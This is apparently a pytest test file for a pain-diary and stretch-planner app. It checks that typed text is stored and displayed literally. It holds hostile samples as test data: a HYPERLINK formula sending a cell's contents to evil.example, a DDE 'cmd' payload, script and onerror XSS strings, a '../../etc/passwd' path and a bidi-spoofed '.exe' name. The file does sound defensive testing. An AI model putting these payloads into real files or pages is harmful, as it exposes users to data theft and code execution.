"""Texts that want to be more than text: they come back as typed, and nothing runs them. What a browser shows of them
stands in tests/browser/test_hostile.py.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from html import escape
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from planner.analysis.visits import hint
from planner.catalogue import load_catalogue
from planner.catalogue.own_stretches import add_own_stretch
from planner.diary import Diary
from planner.diary.columns import Column, csv_line, guarded, unguarded
from planner.diary.deleted_rows import delete_rating, restore_rating
from planner.diary.tables import TABLES
from planner.paper.report import save_report
from planner.paths import SAMPLE
from planner.widgets.session_history import SessionHistory
from planner.widgets.trends_view import TrendsView
from planner.widgets.visits_log import Visits
from planner.words import self_contained
from tests.helpers.diary_rows import session_row, write_diary

DAY, AT = date(2026, 11, 23), datetime(2026, 11, 23, 7, 31, tzinfo=UTC)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "'=1+1",
    "''=1+1",
    "' =1+1",
    '"=1+1"',
    "'",
    "-",
    "a;=1+1",
    'a;"=1+1&"',
    "a,=1+1",
    "a\n=1+1\r\n-2\t@3",
    "a\n'=1+1",
    "- slept badly\n- sat all day",
)
OTHERS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\u202egnp.exe\u2069",
    'she said "don\'t", then; left',
    "$\\frac{1}{0}$",
    "../../etc/passwd",
    "=" + "1 " * 500_000,
)
LIKE_FORMULAS = st.text(alphabet="'\"=+-@＝\t\r\n;,| a", max_size=12)
BEGINS = re.compile("[=+\\-@＝＋－＠]")


def free_columns() -> Iterator[tuple[str, Column]]:
    for table in TABLES.values():
        for column in table.columns:
            if column.kind == "text" and not column.choices:
                yield table.file, column


def cells(line: str) -> Iterator[str]:
    """Yield every cell that a program can make of a line, whatever it takes for the mark between cells."""
    for mark in ",;\t|":
        for rows in (
            csv.reader(io.StringIO(line, newline=""), delimiter=mark),
            csv.reader(re.split("[\r\n]", line), delimiter=mark, quoting=csv.QUOTE_NONE),
        ):
            for row in rows:
                yield from row


@pytest.mark.long
@given(st.one_of(LIKE_FORMULAS, st.text()))
@example("'=")
def test_what_guards_a_text_can_be_taken_away_again(text: str) -> None:
    assert unguarded(guarded(text)) == text


@given(LIKE_FORMULAS.filter(lambda text: guarded(text) == text))
def test_a_text_that_needs_no_guard_is_read_as_it_stands(text: str) -> None:
    assert unguarded(text) == text


@given(LIKE_FORMULAS)
def test_no_program_finds_a_formula_in_any_cell(text: str) -> None:
    line = csv_line(["2026-11-23", guarded(text), guarded(text)])
    assert [cell for cell in cells(line) if BEGINS.match(cell.lstrip())] == []
    assert not re.match("[\t\r\n]", guarded(text))


@pytest.mark.parametrize("text", [*FORMULAS, *OTHERS[:-1]])
def test_every_free_column_gives_a_text_back(text: str) -> None:
    for file, column in free_columns():
        given = one_line(text) if column.key else text
        assert column.parse(column.text(file, given)) == given


def one_line(text: str) -> str:
    """Return a text as a name of a row can hold it."""
    return text.replace("\r", " ").replace("\n", " ")


@pytest.mark.parametrize("text", [*FORMULAS, *OTHERS], ids=lambda text: text[:20])
def test_the_diary_gives_every_text_back_and_knows_its_rows_by_it(data_folder: Path, text: str) -> None:
    diary, name = Diary(), one_line(text)
    for _ in range(2):  # the second time changes nothing
        diary.add_pain(4, about=DAY, note=text, rated_at=AT)
        diary.add_visit(DAY, text, note=text)
        diary.add_pause(DAY, DAY, why=text)
        diary.add_mark(DAY, None, "other", text, text)
        diary.put_session(
            name, plan_id=text, date=DAY, started_at=AT, planned_s=1, active_s=1, outcome="stopped", note=text
        )
    assert diary.pain()["note"].to_list() == [text]
    assert diary.visits()[["with", "note"]].to_numpy().tolist() == [[text, text]]
    assert diary.pauses()["why"].to_list() == [text]
    assert diary.marks()[["what", "note"]].to_numpy().tolist() == [[text, text]]
    assert diary.sessions()[["session_id", "plan_id", "note"]].to_numpy().tolist() == [[name, text, text]]
    assert diary.problems().empty
    for file in data_folder.glob("*.csv"):
        for row in csv.reader(file.read_text("utf-8").splitlines(keepends=True)):
            assert not [cell for cell in row if BEGINS.match(cell.lstrip())], file


@pytest.mark.parametrize("text", [text for text in FORMULAS if unguarded(text) == text])
def test_a_file_from_before_reads_as_before_and_stays(data_folder: Path, text: str) -> None:
    data_folder.mkdir()
    path = data_folder / "pain.csv"
    quoted = text.replace('"', '""')
    lines = ["rated_at,about,pain,region,flare,note\n", f'2026-11-22T07:00:00+00:00,2026-11-22,3,,false,"{quoted}"\n']
    path.write_text("".join(lines), "utf-8", newline="")
    diary, was = Diary(), path.read_bytes()
    assert diary.pain()["note"].to_list() == [text]
    diary.add_pain(5, about=DAY, note=text, rated_at=AT)
    assert path.read_bytes().startswith(was)
    rating = {"rated_at": "2026-11-22T07:00:00+00:00", "about": "2026-11-22", "pain": 3, "note": text}
    diary.correct_rating(rating, note="calm")
    assert diary.pain()["note"].to_list() == ["calm", text]


def test_the_sample_reads_as_it_is_written() -> None:
    for table in TABLES.values():
        rows = list(csv.DictReader(io.StringIO((SAMPLE / table.file).read_text("utf-8"))))
        frame = Diary(SAMPLE).reading(table.name).frame
        for column in table.columns:
            if column.kind == "text" and rows and column.name in rows[0]:
                assert frame[column.name].to_list() == [row[column.name] for row in rows]


def test_a_deleted_formula_comes_back(data_folder: Path) -> None:
    diary = Diary()
    diary.add_pain(4, about=DAY, note="=1+1", rated_at=AT)
    was = (data_folder / "pain.csv").read_bytes()
    rating = {"rated_at": AT, "about": DAY, "pain": 4, "note": "=1+1"}
    delete_rating(diary, rating, AT)
    assert diary.pain().empty
    assert b",'=1+1," in (data_folder / "deleted" / "pain.csv").read_bytes()
    restore_rating(diary, rating)
    assert (data_folder / "pain.csv").read_bytes() == was


@pytest.mark.parametrize("text", [*FORMULAS[:6], "'=1+1", *OTHERS[:3]])
def test_the_lists_show_and_correct_a_text_as_typed(data_folder: Path, text: str) -> None:
    diary = Diary()
    diary.add_visit(DAY - timedelta(1), text, note=text)
    diary.add_pain(4, about=DAY, note=text, rated_at=AT)
    visits, history = Visits(diary), SessionHistory(diary)
    (visit,), (rating,) = visits.view["visits"], history.view["ratings"]
    assert (visit["with"], visit["note"], rating["note"]) == (text, text, text)
    visits.request = {
        **{"type": "correct", "number": 1, "id": visit["id"], "today": "2026-11-23", "date": "2026-11-22"},
        **{"with_whom": text, "note": f"{text}!", "next_due": None},
    }
    history.request = {
        **{"type": "correct_rating", "number": 1, "id": rating["id"]},
        **{"pain": 4, "region": "", "flare": False, "note": f"{text}!"},
    }
    assert (visits.answer["message"], history.answer["message"]) == ("Saved.", "Saved.")
    assert diary.visits()[["with", "note"]].to_numpy().tolist() == [[text, f"{text}!"]]
    assert diary.pain()["note"].to_list() == [f"{text}!"]


NAMES = (
    "<img src=x onerror=alert(1)>",
    "$\\frac{1}{0$ cat",
    "😀 קיר 壁 \u202egnp\u2069",
    "#010203 font-family: x; 3.14159",
    "]]></svg><script>",
    "a\x01b",
    "=1+1",
)


@pytest.mark.parametrize("name", NAMES)
def test_a_name_stands_in_a_picture_as_it_was_typed(data_folder: Path, name: str) -> None:
    form = {"position": "standing", "regions": ["chest"], "reps": 1, "hold_s": 1}
    stretch = add_own_stretch(form | {"name": name, "steps": [name]})
    done = {"session_id": f"s.{DAY}.18", "stretch": stretch.id, "active_s": 10, "ended_at": f"{DAY}T18:05:00+00:00"}
    diary = write_diary(data_folder, sessions=[session_row(DAY)], performed=[done])
    view = TrendsView(diary, DAY)
    with view.hold_trait_notifications():
        view.width, view.wanted = 300, {**view.wanted, "tab": "stretches"}
    picture, *_ = view.view["blocks"]
    assert re.findall("<text[^>]*>([^<]*)</text>", picture["svg"])[0] == escape(self_contained(name), quote=False)
    assert self_contained(name) in picture["table"]["rows"][0]


def test_what_turns_letters_around_ends_with_the_text_and_the_file_keeps_it(data_folder: Path) -> None:
    name = "\u202eeman"
    form = {"position": "standing", "regions": ["chest"], "reps": 1, "hold_s": 1}
    stretch = add_own_stretch(form | {"name": name, "steps": [name]})
    shown = load_catalogue()[stretch.id]
    assert (shown.name, shown.steps) == (f"{name}\u202c", (f"{name}\u202c",))
    assert f'"{name}"' in (data_folder / "my_stretches.toml").read_text("utf-8")
    diary = Diary()
    diary.add_visit(DAY - timedelta(1), name, note=name, next_due=DAY)
    assert hint(diary, DAY) == f"Your next visit, {name}\u202c, is due today."
    assert diary.visits()["with"].to_list() == [name]


@pytest.mark.long
def test_a_report_shows_what_was_typed_as_text(data_folder: Path) -> None:
    form = {"position": "standing", "regions": ["chest"], "reps": 1, "hold_s": 1}
    diary = Diary()
    for n, name in enumerate(NAMES):
        add_own_stretch(form | {"name": name, "steps": [name]})
        diary.add_pain(4, about=DAY, note=name, rated_at=AT + timedelta(minutes=n))
        diary.add_visit(DAY, name, note=name)
    pages = save_report(diary, notes=True, today=DAY)
    web = next(path for path in pages if path.suffix == ".html").read_text("utf-8")
    assert all(escape(name) in web for name in NAMES)
    assert "<script" not in web
    assert "<img src=x" not in web
